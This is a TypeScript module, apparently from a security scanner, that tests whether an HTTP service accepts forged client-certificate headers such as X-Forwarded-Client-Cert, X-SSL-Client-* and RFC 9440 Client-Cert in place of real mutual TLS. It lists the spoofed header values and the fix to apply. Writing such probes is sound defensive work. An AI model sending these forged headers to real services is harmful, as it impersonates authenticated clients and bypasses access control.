import { type Attack, asking } from "../attack.ts";
import { ignoreHeaders } from "./fixes.ts";

/** As the gateways that set them write them: for services that believe whoever sends them. */
const FORGED = {
  "x-forwarded-client-cert":
    'By=spiffe://fleet.internal/gateway;Hash=0000000000000000000000000000000000000000000000000000000000000000;Subject="CN=fleetsec-probe";URI=spiffe://fleet.internal/fleetsec-probe',
  "x-ssl-client": {
    "x-ssl-client-verify": "SUCCESS",
    "x-ssl-client-s-dn": "CN=fleetsec-probe",
    "x-ssl-client-dn": "CN=fleetsec-probe",
    "x-ssl-client-cn": "fleetsec-probe",
    "x-ssl-client-serial": "01",
    "ssl-client-verify": "SUCCESS",
    "ssl-client-subject-dn": "CN=fleetsec-probe",
  },
} as const;

/** Each with the valid client's own certificate in it: what a service would look for. */
function spoofs(pem: string, der: Uint8Array): readonly (readonly [kind: string, fields: Fields])[] {
  const escaped = encodeURIComponent(pem);
  const base64 = Buffer.from(der).toString("base64");
  const { "x-forwarded-client-cert": xfcc, "x-ssl-client": ssl } = FORGED;
  return [
    ["X-Forwarded-Client-Cert", { "x-forwarded-client-cert": `${xfcc};Cert="${escaped}"` }],
    ["X-SSL-Client-*", { ...ssl, "x-ssl-client-cert": escaped, "ssl-client-cert": escaped }],
    [
      "X-Client-Cert",
      { "x-client-cert": escaped, "x-client-verify": "SUCCESS", "x-client-dn": "CN=fleetsec-probe" },
    ],
    // RFC 9440, section 2.1
    ["Client-Cert", { "client-cert": `:${base64}:` }],
    [
      "X-Forwarded-Tls-Client-Cert",
      {
        "x-forwarded-tls-client-cert": encodeURIComponent(base64),
        "x-forwarded-tls-client-cert-info": encodeURIComponent('Subject="CN=fleetsec-probe"'),
      },
    ],
  ];
}

type Fields = Readonly<Record<string, string>>;

export const headerSpoof: Attack = {
  id: "header-spoof",
  title: "header fields in place of one",
  reference: "RFC 9440 section 4",
  meaning: "whoever writes what a gateway would write is taken for a client with a certificate",
  fix: ignoreHeaders,
  weight: "required",
  takesIdentity: false,
  versions: ["1.3", "1.2"],
  async plan({ protocol, forgery }) {
    if (protocol.http === undefined)
      return { outcome: "not-applicable", reason: "the service speaks no HTTP" };
    const { request, ask } = protocol.http;
    const [leaf] = forgery.control?.chain ?? [];
    if (leaf === undefined)
      return { outcome: "not-run", reason: "needs a valid client's certificate, which it names" };
    const attempts = spoofs(forgery.control?.certificates ?? "", leaf.der).map(([kind, fields]) =>
      asking(ask({ ...request, fields: [...request.fields, ...Object.entries(fields)] }), kind),
    );
    return { attempts };
  },
};
